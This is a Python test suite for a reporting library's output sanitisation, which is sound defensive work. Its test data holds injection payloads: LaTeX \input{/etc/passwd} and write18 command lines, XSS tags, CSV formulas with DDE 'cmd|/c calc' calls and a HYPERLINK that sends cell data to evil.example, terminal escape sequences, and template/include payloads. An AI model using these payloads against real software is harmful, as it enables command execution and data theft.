"""Attacks on who reads results: by labels, prompts, reasons and files that others made."""

import ast
import csv
import io
import logging
import re
import sys
from contextlib import contextmanager
from itertools import islice, product
from pathlib import Path
from types import SimpleNamespace

import jinja2
import numpy as np
import pandas as pd
import pytest
from docutils.core import publish_doctree
from matplotlib.text import Text
from PIL import Image
from tqdm import tqdm

import tests.tiny_report as tiny_report
from lanzdml.datasets.manifest import write_excluded
from lanzdml.embeddings.storage import write_embeddings
from lanzdml.errors import LanzdmlError, error_lines
from lanzdml.figures.gallery.draw import draw_gallery
from lanzdml.figures.gallery.retrieval import Retrieval, Shown
from lanzdml.figures.style import class_colors, write_figure
from lanzdml.report.grid import make_grid
from lanzdml.report.page import write_report
from lanzdml.report.parts import data, provenance, results, runs
from lanzdml.report.places import in_text
from lanzdml.report.results import Results
from lanzdml.spreadsheet import guarded, plain, read_csv, to_csv
from lanzdml.tables.markup import Cell, Table, markdown_escape, markdown_note
from tests.test_as_it_stands import gallery, trimap

sys.path.insert(0, str(Path(__file__).parents[2] / "workflow_scripts"))
from job import THREAD_VARIABLES, _Tee, run

LIBRARY = Path(__file__).parents[2] / "lanzdml"
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "^^M", "^^0d"]


# LaTeX


@pytest.mark.parametrize("breaks", BREAKS, ids=ascii)
def test_no_line_of_latex_is_somebody_elses(breaks):
    attack = rf"a{breaks}\input{{/etc/passwd}}{breaks}\immediate\write18{{id}}%{breaks}\end{{x}}"
    table = Table(
        attack, [attack], [(attack,), ("b",)], [attack, "n"],
        [[Cell(attack, best=True), "1"], [attack, "2"]], [attack, attack], [attack],
    )  # fmt: skip
    lines = "\n".join(table.latex()).splitlines()
    assert lines == table.latex()
    ours = r"\\(tabular|begin|end|toprule|midrule|bottomrule|textbf|text\w+\{\}|[&%$#_{}\\])"
    for line in lines:
        if not line.startswith("%"):
            assert "\\" not in re.sub(ours, "", line)
            assert "^" not in line
            assert not re.search(r"(?<!\\)%", line)


# Markdown

TAGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<http://evil.example>",
    "<!-- a", "<?php", "&lt;script&gt;", "&#60;script&#62;", "<\u200bscript>", "<a\nhref='x'>",
]  # fmt: skip
LINKS = [
    "[a](http://evil.example)", "![a](http://evil.example/x.png)", "[a[b]](http://evil.example)",
    "![a[b]](http://evil.example)", "[x]: http://evil.example", "[x][y]", "[^1]: a",
]  # fmt: skip


@pytest.mark.parametrize("attack", TAGS)
def test_no_reader_of_markdown_finds_a_tag(attack):
    for text in (markdown_escape(attack), markdown_note(attack)):
        # Neither those that know a backslash before it nor those that do not.
        assert not re.search(r"<(?! )|&(?!amp;|lt;)", text)


@pytest.mark.parametrize("attack", LINKS)
def test_no_reader_of_markdown_finds_a_link(attack):
    assert not re.search(r"(?<!\\)\][(:\[]", markdown_escape(attack))


HIDING = "\u202e\u202d\u2066\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\xad\U000e0041"


def test_nothing_turns_or_hides_letters():
    table = Table("a", ["a"], [(f"re{HIDING}d",)], ["n"], [[f"{HIDING}x"]], [f"n{HIDING}"])
    for lines in (table.markdown(), table.latex()):
        assert not set(HIDING) & set("".join(lines))
        assert "red" in "".join(lines)
    joined = "نمی\u200cخواهم 👩\u200d🚀 क्\u200dष"
    assert markdown_escape(joined) == joined, "signs that letters of some scripts need"


# CSV

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C x'!A0",
    "@SUM(1+1)*cmd|'x'!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "＝1+1", "＋1+a",
    "－a", "＠a", "a;=1+1;b", "a;=1+1", "a\n=1+1", "a\r\n@x", "a\t=1+1", '";=1+1', "'=1+1", "''",
    "-", "-1;=1+1", "a\r=1", "a; '=1", "-1\n=1",
]  # fmt: skip
HARMLESS = [
    "-0.12",
    "+1.2 ",
    "-1e-3",
    "a=1",
    "a-b",
    "1-2",
    "—",
    "rock, 'n' roll",
    "x@y.example",
    "",
]


def spreadsheet(text, separator, quotes):
    """The cells of a CSV as a spreadsheet has them that parts at a separator."""
    rows = (
        csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        if quotes
        else ([*line.split(separator)] for line in re.split("[\r\n]", text))
    )
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("attack", FORMULAS, ids=ascii)
def test_no_spreadsheet_finds_a_formula(attack, tmp_path):
    frame = pd.DataFrame({"image_id": ["a"], attack: [attack], "n": [-0.5]})
    text = to_csv(frame)
    number = re.compile(r"[-+]?[\d.]+([eE][-+]?\d+)?")
    for separator in ",;\t":
        for quotes in (True, False):
            for cell in spreadsheet(text, separator, quotes):
                # What is within quotes that are no quotes begins with one, so is text.
                begins = re.match("[=+@＝＋－＠-]", cell.strip())
                assert not begins or number.fullmatch(cell.strip())
    (tmp_path / "a.csv").write_text(text, newline="")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "a.csv"), frame)
    column = pd.read_csv(tmp_path / "a.csv").iloc[:, 1]
    as_said = column.str.replace(r"(^|[;\t\r\n])(\s*)'", r"\1\2", regex=True)
    assert as_said.tolist() == [attack], "as the documentation says"


def test_texts_come_back_whatever_they_hold():
    rng = np.random.default_rng(0)
    signs = list("=+-@'＝; \t\r\na1.e,\"|\u00a0")
    for text in [*FORMULAS, *HARMLESS, *map("".join, rng.choice(signs, (3000, 6)))]:
        assert plain(guarded(text)) == text
    assert [guarded(text) for text in HARMLESS] == HARMLESS


def test_texts_without_end_are_guarded_in_no_time():
    for part in ("\t", ";", "1", "'", "=", " ", "\n "):
        text = "-" + part * 200_000 + "x"
        assert plain(guarded(text)) == text


def test_excluded_images_are_no_formulas(tmp_path):
    attack = "=cmd|'/c calc'!A1"
    frame = pd.DataFrame({"image_id": [attack], "path": ["@a.png"], "reason": ["-x"]})
    write_excluded(tmp_path / "excluded.csv", frame)
    assert pd.read_csv(tmp_path / "excluded.csv").iloc[0].tolist() == [
        f"'{attack}",
        "'@a.png",
        "'-x",
    ]
    pd.testing.assert_frame_equal(read_csv(tmp_path / "excluded.csv"), frame)


def test_all_csv_is_written_in_one_place():
    writers = {
        path.relative_to(LIBRARY).as_posix()
        for path in LIBRARY.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert writers == {"spreadsheet.py"}
    assert "csv.writer" not in "".join(path.read_text() for path in LIBRARY.rglob("*.py"))


# Terminal and logs

ESCAPES = [
    "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b2J", "\x1b[1A\x1b[2K", "abc\b\b\b", "\x1bc", "\x7f",
    "\u202eabc", "\x1b]8;;http://evil.example\x07a\x1b]8;;\x07", "\udcff", "\x00",
]  # fmt: skip


class Screen:
    """What a reader of a terminal sees: carriage returns write over a line."""

    def __init__(self):
        self.text = ""

    def write(self, text):
        text.encode("utf-8")
        self.text += text
        return len(text)

    def flush(self):
        pass

    def isatty(self):
        return True

    def lines(self):
        lines = []
        for line in self.text.split("\n"):
            shown = ""
            for part in line.split("\r"):
                shown = part + shown[len(part) :]
            lines.append(shown)
        return lines


@pytest.fixture
def tee():
    screen, log = Screen(), io.BytesIO()
    return _Tee(screen, log), screen, log


@pytest.mark.parametrize("attack", ESCAPES, ids=ascii)
def test_no_escape_sequence_reaches_a_terminal_or_a_log(attack, tee):
    tee, screen, log = tee
    print(f"image {attack}", file=tee)
    tee.write(attack)
    assert screen.text == log.getvalue().decode()
    assert re.fullmatch(r"[\x20-\x7e\n]*", screen.text)


@pytest.mark.parametrize("attack", ["a\rError: delete all", "a\r\rb", "a\r"], ids=ascii)
def test_a_name_does_not_write_over_its_line(attack, tee):
    tee, screen, _ = tee
    print("image", attack, "is", file=tee)
    assert screen.lines()[0].startswith("image a")


def test_progress_bars_work(tee):
    tee, screen, log = tee
    print("before", file=tee)
    for _ in tqdm(range(3), file=tee, mininterval=0, ncols=60, desc="Größe"):
        pass
    print("after\r\na\tb", file=tee)
    before, bar, after, tab, _ = screen.lines()
    assert (before, after, tab) == ("before", "after", "a\tb")
    assert bar.startswith("Größe: 100%|")
    assert log.getvalue().decode() == screen.text


@pytest.mark.parametrize("attack", [*ESCAPES, *BREAKS[:-2]], ids=ascii)
def test_an_error_is_one_line_of_letters(attack):
    error = LanzdmlError(f"no image a{attack}Error: delete all")
    assert len(error_lines(error).splitlines()) == 1
    assert error_lines(error).isprintable()


def test_what_is_logged_is_one_line(tmp_path, monkeypatch, capsys):
    def main(_):
        logging.getLogger("of another package").warning("read %s", "a\nError: delete\x1b[2J")

    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    for variable in THREAD_VARIABLES:  # so that the test's own process gets them back
        monkeypatch.setenv(variable, "1")
    run(main, SimpleNamespace(log=[str(tmp_path / "job.log")], threads=1, output=[]))
    assert capsys.readouterr().err == "read a\\nError: delete\\x1b[2J\n"


def test_a_message_without_end_is_cut():
    assert len(str(LanzdmlError("a" * 10**6))) < 5000


# The page


@pytest.fixture(scope="module")
def received(tmp_path_factory):
    """What a complete report is made of."""
    given = {}

    def results(**arguments):
        given.update(arguments)
        return Results(**arguments)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tiny_report, "Results", results)
        tiny_report.make_report(tmp_path_factory.mktemp("received"))
    return given


@contextmanager
def in_place_of(path):
    """Within the block something else may be there."""
    aside = path.rename(path.with_name("aside"))
    try:
        yield
    finally:
        path.unlink()
        aside.rename(path)


SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"


CONFIG = {
    "datasets": {"synthetic_cars": {"notions": {"car_color": {}}}}, "models": {"tiny": {}},
    "experiments": {"main": {"models": ["tiny"]}}, "methods": ["clip"], "dims": [4], "seeds": [0],
    "protocol": "paper",
}  # fmt: skip


def test_the_page_tells_no_place_of_the_machine(tmp_path, monkeypatch):
    elsewhere, working = "/home/al ice/secret place", tmp_path / "working"
    working.mkdir()
    monkeypatch.chdir(working)
    paths = [
        f"{elsewhere}/data.zip", f"{working}/inside/a", f"local-dir:{elsewhere}/model",
        f"file://{elsewhere}/b", "../../secret place/c", f"{Path.home()}/secret place/d",
    ]  # fmt: skip
    monkeypatch.setattr(tiny_report, "ARCHITECTURE", "local-dir:/home/alice/secret/model")
    monkeypatch.setattr(
        tiny_report, "REASON", f"no '/home/alice/secret/x.csv': {working}/y is {Path.home()}/z"
    )
    places = dict(enumerate(paths))
    config = CONFIG | {
        "datasets": {"synthetic_cars": {"root": paths[0], "labels": paths[1], "notions": {
            "car_color": {"template": "a {aspect}", "aspects": paths[3], "more": places}}}},
        "models": {"tiny": {"architecture": paths[2], "pretrained": paths[4]}}, "lists": paths,
    }  # fmt: skip
    page = tiny_report.make_report(working, config=config).read_text()
    for secret in ("al ice", "alice", "/home/", "secret", str(tmp_path), str(Path.home())):
        assert secret not in page
    for shown in ("…/data.zip", "inside/a", "local-dir:…/model", "…/x.csv", "…/c", ": y is "):
        assert shown in page


def test_labels_that_look_like_paths_stand_as_they_are(tmp_path, monkeypatch):
    monkeypatch.setattr(tiny_report, "EVIL", "/m/0k4j")  # as Open Images names classes
    page = tiny_report.make_report(tmp_path).read_text()
    assert "<li>/m/0k4j</li>" in page  # of the prompts


@pytest.mark.parametrize(
    "text", ["12.3 / 45.6", "and/or", "https://a.example/b/c", "1/2", "/", "a /b"]
)
def test_what_is_no_path_stands_as_it_is(text):
    assert in_text(text) == text


@pytest.mark.parametrize(
    "file",
    ["figures/gallery.png", "figures/gallery.pdf", "tables/saliency.csv", "tables/table1.csv",
     "benchmarks/saliency/synthetic_cars/tiny/maps.tsv", "images.parquet", "prompts0.parquet",
     "metrics.parquet", "metrics/main.parquet"],
)  # fmt: skip
def test_the_page_follows_no_link_out_of_the_results(file, received, tmp_path):
    secret = tmp_path / "id_rsa"
    secret.write_text(SECRET)
    path = received["folder"] / file
    with in_place_of(path):
        path.symlink_to(secret)
        with pytest.raises(LanzdmlError, match=re.escape(f"{path} leads to {secret}, out of")):
            write_report(tmp_path / "report.html", Results(**received))
    assert not (tmp_path / "report.html").exists()


def header(width, height):
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + width.to_bytes(4) + height.to_bytes(4)


@pytest.mark.parametrize(
    "content",
    [SECRET.encode(), b"", b"\x89PNG\r\n\x1a\n", header(0, 5), header(5, 2**32 - 1), b"<svg/>"],
    ids=["key", "empty", "cut off", "no width", "too high", "svg"],
)
def test_the_page_shows_pictures_only(content, received, tmp_path):
    path = received["figures"]["gallery"]
    with in_place_of(path):
        path.write_bytes(content)
        with pytest.raises(LanzdmlError, match=r"gallery\.png is no PNG"):
            write_report(tmp_path / "report.html", Results(**received))


# Labels and prompts without end

ENDLESS = 120_000
LABELS = {
    "latin": "a" * ENDLESS, "words": "ab " * (ENDLESS // 3), "marks": "a" + "\u0301" * ENDLESS,
    "joined": "a\u200d" * ENDLESS, "tabs": "\t" * ENDLESS, "turned": "\u202ea" * (ENDLESS // 2),
    "chinese": "".join(map(chr, range(0x4E00, 0x9FA0))) * 6,
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("label", LABELS)
@pytest.mark.parametrize("draw", [gallery, trimap])
def test_labels_without_end_are_cut_in_pictures(draw, label, tmp_path):
    figure = draw([f"{LABELS[label]}{i}" for i in range(8)])
    assert figure.get_figheight() < 12
    assert sum(len(text.get_text()) for text in figure.findobj(Text)) < 6000
    write_figure(figure, [tmp_path / "a.png", tmp_path / "a.pdf"])
    assert sum(path.stat().st_size for path in tmp_path.iterdir()) < 2**20


def test_classes_that_differ_behind_the_cut_are_two():
    shown = [
        Shown(f"i{i}", Image.new("RGB", (3, 2)), {"mood": f"{LABELS['latin']}{i % 2}"})
        for i in range(3)
    ]
    retrieval = Retrieval(shown[0], shown[1:], {"mood": shown[1:]}, {"mood": 1})
    texts = [
        text.get_text()
        for text in draw_gallery([retrieval], dataset="m", model="m", dim=4).findobj(Text)
    ]
    assert "1 of 1" in texts
    assert any(text.startswith("✘") and text.endswith("…") for text in texts)
    overview = Table(
        "", ["a"], [(LABELS["latin"] + "0",), (LABELS["latin"] + "1",)], ["n"], [["1"], ["2"]]
    )
    assert all(line.startswith("| aaa") for line in overview.markdown()[2:]), (
        "no repeat of the row above"
    )
    (band,) = make_grid("t", overview).bands
    assert [len(row.heads) for row in band.rows] == [1, 1]


@pytest.mark.slow
@pytest.mark.parametrize("label", ["latin", "tabs", "chinese"])
def test_labels_without_end_are_cut_in_tables_and_on_the_page(label, tmp_path, monkeypatch):
    monkeypatch.setattr(tiny_report, "EVIL", LABELS[label])
    monkeypatch.setattr(tiny_report, "REASON", LABELS[label])
    path = tiny_report.make_report(
        tmp_path, (data.part, runs.part, provenance.part, results.part), config=CONFIG
    )
    assert len(path.read_text()) < 200_000
    assert all(file.stat().st_size < 100_000 for file in path.parent.glob("tables/table1.*"))


@pytest.mark.slow
def test_prompts_without_number_are_counted(tmp_path):
    path = tmp_path / "prompts.parquet"
    rows = pd.DataFrame({"prompt": [f"prompt {i}" for i in range(5000)], "aspect": "a"})
    write_embeddings(path, rows, np.ones((5000, 2), np.float32), {})
    made = tiny_report.make_report(tmp_path, prompts={("synthetic_cars", "car_color"): path})
    page = made.read_text()
    assert "5,000 prompts" in page
    assert "<li>prompt 999</li>" in page
    assert "<li>prompt 1000</li>" not in page
    assert "… and 4,000 more" in page


def test_thousands_of_classes_named_after_colours_have_colours():
    spaced = (
        "".join(pair) for pair in product(*((letter, f"{letter} ") for letter in "lightgoldenrod"))
    )
    classes = [*(f"{name}yellow" for name in islice(spaced, 3000)), *map(str, range(2900))]
    assert len(class_colors(classes)) == 5900


HOSTILE = [
    r"$\def\a{\a\a}\a$", "$" * 99, r"$\frac{" * 99, r"\input{/etc/passwd}", "a\nb", "\u202ea",
    "\u200b", "\x00", "\x1b[2J", "_", "%s%n{0}", r"$\sqrt{" * 50 + "}" * 50 + "$",
]  # fmt: skip


@pytest.mark.parametrize("draw", [gallery, trimap])
def test_hostile_labels_are_drawn_as_they_stand(draw, tmp_path):
    figure = draw(HOSTILE)
    write_figure(figure, [tmp_path / "a.png", tmp_path / "a.pdf"])
    texts = "".join(text.get_text() for text in figure.findobj(Text))
    assert not re.search("[\x00-\x09\x0b-\x1f\u202e\u200b]", texts)
    assert r"$\def" in texts.replace("\n", "")


CAPTIONS = [
    "{{ 7 * 191 }}", "{% set a = 1 %}", ".. raw:: html\n\n  <script>", ".. include:: /etc/passwd",
    ":math:`a`", "|a| *b* `c <d>`__ e_ \\f", "<script>", "MAP@R, r' = 4 (5 % level)",
]  # fmt: skip


@pytest.mark.parametrize("caption", CAPTIONS)
def test_a_caption_of_snakemakes_report_is_text(caption):
    """As Snakemake makes it of a template; tests/test_workflow.py does so for real."""
    template = (LIBRARY.parent / "resources/caption.rst").read_text() + "\n.. _a: b\n"
    job = SimpleNamespace(params=SimpleNamespace(caption=caption))
    rst = jinja2.Environment(trim_blocks=True, lstrip_blocks=True).from_string(template)
    paragraph, _ = publish_doctree(
        rst.render(snakemake=job), settings_overrides={"report_level": 5}
    )
    assert [type(node).__name__ for node in (paragraph, *paragraph)] == ["paragraph", "Text"]
    assert paragraph.astext() == caption.replace("\n", " ")
